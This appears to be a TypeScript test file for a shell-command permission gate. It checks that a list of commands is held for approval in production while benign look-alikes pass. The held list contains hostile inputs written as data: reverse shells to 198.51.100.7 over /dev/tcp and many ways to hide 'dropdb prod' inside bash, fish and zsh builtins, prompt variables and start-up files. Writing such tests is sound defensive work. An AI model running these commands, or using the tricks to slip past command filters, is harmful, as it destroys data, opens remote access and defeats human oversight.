import assert from 'node:assert/strict';
import { decision } from '../lab.ts';

interface Row {
  readonly command: string;
  readonly shell?: string;
}

const asked: readonly Row[] = [
  { command: 'hash -p /usr/bin/dropdb tidy; tidy prod' },
  { command: "mapfile -C 'dropdb prod;' -c 1 x < list" },
  { command: "compgen -C 'dropdb prod' x" },
  { command: 'bind -x \'"\\C-a": dropdb prod\'' },
  { command: 'enable -f ./x.so x' },
  { command: "PS4='$(dropdb prod)' bash -xc :" },
  { command: "PROMPT_COMMAND='dropdb prod' bash -i -c exit" },
  { command: "echo 'dropdb prod' > e.sh; BASH_ENV=e.sh bash -c :" },
  { command: 'x=\'$(dropdb prod)\'; echo "${x@P}"' },
  { command: "declare -n r=c; c='dropdb prod'; $r" },
  { command: "xargs -d '\\n' -n1 sh -c <<< 'dropdb prod'" },
  { command: 'bash -i >& /dev/tcp/198.51.100.7/4242 0>&1' },
  { command: 'exec 5<>/dev/tcp/198.51.100.7/4242; bash <&5' },
  { command: "fish -C 'dropdb prod' -c exit" },
  { command: "echo 'dropdb prod' | source", shell: 'fish' },
  { command: "alias q 'dropdb prod'; q", shell: 'fish' },
  { command: "ls *(e:'dropdb prod':)", shell: 'zsh' },
  { command: "x='dropdb prod'; ${=x}", shell: 'zsh' },
  { command: ": ${(e):-'$(dropdb prod)'}", shell: 'zsh' },
  { command: "functions[x]='dropdb prod'; x", shell: 'zsh' },
  { command: "alias -g X='| dropdb prod'; ls X", shell: 'zsh' },
  { command: 'sched +00:01 dropdb prod', shell: 'zsh' },
  { command: '{ npm test } always { dropdb prod }', shell: 'zsh' },
];
const passed: readonly Row[] = [
  { command: 'hash -r; hash -t git' },
  { command: "mapfile -C 'echo lines:' -c 100 x < list" },
  { command: "complete -W 'start stop' svc" },
  { command: "PS4='$(date +%T) ' bash -xc 'npm test'" },
  { command: 'x=\'\\u@\\h\'; echo "${x@P}"' },
  { command: "declare -n r=c; c='npm test'; $r" },
  { command: "echo 'set x 1' | source", shell: 'fish' },
  { command: 'starship init fish | source', shell: 'fish' },
  { command: "print -l *(e:'[[ -d $REPLY ]]':)", shell: 'zsh' },
  { command: "x='npm test'; ${=x}", shell: 'zsh' },
  { command: "precmd() { print -n '' }", shell: 'zsh' },
];

describe('code that builtins, prompts and start-up variables hold', () => {
  for (const row of asked)
    it(`asks: ${row.command}`, async () =>
      assert.equal(await decision({ ...row, environment: 'production' }), 'ask'));
  for (const row of passed)
    it(`passes: ${row.command}`, async () => assert.equal(await decision({ ...row }), 'pass'));
});
